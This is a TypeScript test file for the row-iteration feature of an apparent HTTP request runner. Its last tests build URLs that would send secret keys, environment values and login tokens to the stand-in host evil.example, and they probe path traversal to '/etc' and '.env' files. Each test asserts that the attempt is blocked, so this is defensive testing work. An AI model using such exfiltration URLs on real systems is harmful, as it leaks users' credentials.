import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { failureOf } from '../../../../src/core/run/outcome';
import { sendAllResult } from '../../../../src/core/run/sendAllSummary';
import type { FakeResponse } from '../../../helpers/fakeTransport';
import { ManualClock, settled } from '../../../helpers/manualClock';
import { RunTheatre, type SentTo } from '../../../helpers/runs';

const api = 'baseUrl: https://api.example\n';

async function urls(request: string, contents: Record<string, string> = {}, more = ''): Promise<readonly string[]> {
  const theatre = new RunTheatre({
    files: { 'a.http.yaml': `${api}${more}requests: { a: { ${request} } }` },
    contents,
  });
  const outcomes = await theatre.start(['a']);
  return [...theatre.sent.map((line) => line.replace('https://api.example', '')), ...outcomes];
}

describe('forEach', () => {
  it('sends once for each row of a CSV file, whose cells are text', async () => {
    const contents = { 'rows.csv': 'id,name\n007,a b\n8,c\n' };
    assert.deepEqual(await urls('get: "/${id}?n=${name|url}", forEach: ./rows.csv', contents), [
      'GET /007?n=a%20b',
      'GET /8?n=c',
      'a: ok 200 rows 2/2',
    ]);
  });

  it('says which field was probably meant', async () => {
    for (const rows of ['./rows.csv', './rows.json', '[{ sku: A }]']) {
      const contents = { 'rows.csv': 'sku,name\nA,x\n', 'rows.json': '[{"sku": "A"}]' };
      assert.deepEqual(await urls(`get: "/\${skuu}", forEach: ${rows}`, contents), [
        'a: not sent: Request "a" cannot be sent: There is no variable skuu; did you mean sku?',
      ]);
    }
  });

  it('types cells with |json', async () => {
    const theatre = new RunTheatre({
      files: {
        'a.http.yaml': `${api}requests: { a: { post: /, json: { n: "\${n|json}", t: "\${n}" }, forEach: r.csv } }`,
      },
      contents: { 'r.csv': 'n\n1.10\n' },
    });
    await theatre.start(['a']);
    assert.deepEqual(theatre.bodies, ['{"n":1.10,"t":"1.10"}']);
  });

  it('takes the items of a JSON file, with their numbers as written', async () => {
    const contents = { 'rows.json': '[{"id": 12345678901234567890}, {"id": "x"}]' };
    assert.deepEqual(await urls('get: "/${id}", forEach: ./rows.json', contents), [
      'GET /12345678901234567890',
      'GET /x',
      'a: ok 200 rows 2/2',
    ]);
  });

  it('takes a list, and a variable that holds one', async () => {
    assert.deepEqual((await urls('get: "/${item}", forEach: [1, b]')).slice(0, 2), ['GET /1', 'GET /b']);
    const more = 'variables: { ids: [{ id: 1 }, { id: 2 }] }\n';
    assert.deepEqual((await urls('get: "/${id}", forEach: "${ids}"', {}, more)).slice(0, 2), ['GET /1', 'GET /2']);
  });

  it('takes a capture that found one value, where several would be a list', async () => {
    for (const [body, sent] of [
      ['{ "items": [{ "id": 7 }] }', ['/7']],
      ['{ "items": [{ "id": { "item": 8 } }] }', ['/8']],
      ['{ "items": [{ "id": 7 }, { "id": "x" }] }', ['/7', '/x']],
    ] as const) {
      for (const rows of ['${list.ids}', '${all}']) {
        const theatre = new RunTheatre({
          files: {
            'a.http.yaml': `${api}variables: { all: "\${list.ids}" }
requests:
  list: { get: /list, capture: { ids: "$.items[*].id" } }
  a: { post: "/\${item}", forEach: "${rows}" }
`,
          },
          answer: () => ({ status: 200, headers: [['Content-Type', 'application/json']], body }),
        });
        await theatre.start(['a']);
        assert.deepEqual(
          theatre.sent.slice(1),
          sent.map((path) => `POST https://api.example${path}`),
        );
      }
    }
  });

  it('hides a variable of the name of a field', async () => {
    const more = 'variables: { id: "${secret:never}" }\n';
    assert.deepEqual((await urls('get: "/${id}", forEach: [{ id: 1 }]', {}, more))[0], 'GET /1');
  });

  it('expands nothing in a row', async () => {
    assert.deepEqual(
      (await urls('get: "/${a}", forEach: r.csv', { 'r.csv': 'a\n${secret:x}\n' }))[0],
      'GET /$%7Bsecret:x%7D',
    );
  });

  it('says that there are no rows', async () => {
    assert.deepEqual(await urls('get: "/${id}", forEach: r.csv', { 'r.csv': 'id\n' }), ['a: no rows in r.csv']);
    assert.deepEqual(await urls('get: "/${item}", forEach: []'), ['a: no rows in forEach']);
  });

  it('stops at a faulty row, and counts those before it', async () => {
    const [first, outcome] = await urls('get: "/${a}", forEach: r.csv', { 'r.csv': 'a,b\n1,2\n3\n' });
    assert.equal(first, 'GET /1');
    assert.match(outcome ?? '', /a: failed 200 rows 1\/1 stopped by r\.csv, line 3: the row has 1 cells/);
  });

  it('goes on after a send that failed, which is then shown', async () => {
    const theatre = new RunTheatre({
      files: { 'a.http.yaml': `${api}requests: { a: { get: "/\${item}", forEach: [1, 2, 3] } }` },
      answer: ({ url }) => ({ status: url.endsWith('/2') ? 500 : 200 }),
    });
    assert.deepEqual(await theatre.start(['a']), ['a: failed 500 rows 2/3']);
    const outcome = theatre.outcomes.get('a');
    assert.ok(outcome?.kind === 'sent');
    assert.equal(outcome.shown.row, 2);
  });

  it('that is cancelled after a row that went well has not failed', async () => {
    const controller = new AbortController();
    const theatre = new RunTheatre({
      files: {
        'a.http.yaml': `${api}requests: { a: { get: "/\${item}", forEach: [0, 1, 2, 3], retry: { times: 1, interval: 1h } } }`,
      },
      clock: new ManualClock(),
      answer: ({ url }) => ({ status: url.endsWith('/2') ? 503 : 200 }),
    });
    const ended = theatre.start(['a'], controller.signal);
    await settled();
    controller.abort();
    await ended;
    const outcome = theatre.outcomes.get('a');
    assert.ok(outcome);
    assert.deepEqual(failureOf(outcome), { kind: 'cancelled' });
    const place = theatre.place('a.http.yaml');
    const [entry] = place.file.requests;
    assert.ok(entry);
    const { state, rows } = sendAllResult({ place, entry }, outcome, undefined);
    assert.deepEqual([state, rows], ['cancelled', { count: 2, failed: 0 }]);
  });

  it('wants a list', async () => {
    const [outcome] = await urls('get: /, forEach: "${a}"', {}, 'variables: { a: text }\n');
    assert.match(outcome ?? '', /forEach needs a list, and a holds a text or a number/);
    const [file] = await urls('get: /, forEach: r.json', { 'r.json': '{}' });
    assert.match(file ?? '', /r\.json does not hold a list/);
    const [broken] = await urls('get: /, forEach: r.json', { 'r.json': '[1,' });
    assert.match(broken ?? '', /r\.json, line 1: this is not JSON/);
  });

  it('says where a JSON file is too deep to be put into requests', async () => {
    const content = (levels: number): Record<string, string> => ({
      'r.json': '['.repeat(levels) + ']'.repeat(levels),
    });
    assert.deepEqual(
      (await urls('post: /, json: "${item}", forEach: r.json', content(499))).at(-1),
      'a: ok 200 rows 1/1',
    );
    const [outcome] = await urls('post: /, json: "${item}", forEach: r.json', content(100_000));
    assert.match(outcome ?? '', /not sent: The file r\.json nests lists and maps more than 500 levels deep/);
  });

  it('reads nothing outside of the folder', async () => {
    for (const path of ['../rows.csv', '/etc/rows.csv', '.env.csv', '.git/rows.csv']) {
      const [outcome] = await urls(`get: /, forEach: ${path}`);
      assert.match(outcome ?? '', /not sent: The file .* is not used/);
    }
  });
});

describe('what is secret in the rows of forEach', () => {
  const scene = (request: string): ConstructorParameters<typeof RunTheatre>[0] => ({
    files: {
      'a.http.yaml': `variables: { all: "\${login.tokens}" }
requests:
  login: { get: https://shop.example/login, capture: { tokens: { from: $.tokens, secret: true } } }
  a: { ${request} }
`,
    },
    secrets: { key: 'k-123456' },
    processEnv: { REGION: 'eu' },
    answer: ({ url }: SentTo): FakeResponse => {
      const headers = [['Content-Type', 'application/json']] as const;
      return url.endsWith('/login')
        ? { status: 200, headers, body: '{"tokens":["one-time","two-time"]}' }
        : { status: 200 };
    },
    allow: () => false,
  });

  for (const [rows, name] of [
    ['["${secret:key}"]', 'secret:key'],
    ['[{ item: "${secret:key}", host: evil.example }]', 'secret:key'],
    ['["${env:REGION}"]', 'env:REGION'],
    ['"${login.tokens}"', 'login.tokens'],
    ['"${all}"', 'login.tokens'],
  ] as const) {
    it(`goes nowhere without permission: ${rows}`, async () => {
      const host = rows.includes('host') ? '${host}' : 'evil.example';
      const theatre = new RunTheatre(scene(`get: "https://${host}/?x=\${item}", forEach: ${rows}`));
      assert.equal(
        (await theatre.start(['a'])).at(-1),
        `a: not sent: Nothing was sent: you did not allow ${name} to go to https://evil.example.`,
      );
      assert.ok(!theatre.sent.some((line) => line.includes('evil')));
      assert.equal(theatre.questions.filter((question) => question.startsWith('release')).length, 1);
    });
  }

  it('goes back to its server unasked, and nobody is asked where nothing of a row is sent', async () => {
    for (const url of ['https://shop.example/?x=${item}', 'https://evil.example/']) {
      const theatre = new RunTheatre(scene(`get: "${url}", forEach: "\${login.tokens}"`));
      assert.deepEqual(await theatre.start(['a']), ['login: ok 200', 'a: ok 200 rows 2/2']);
      assert.deepEqual(theatre.questions, []);
    }
  });
});
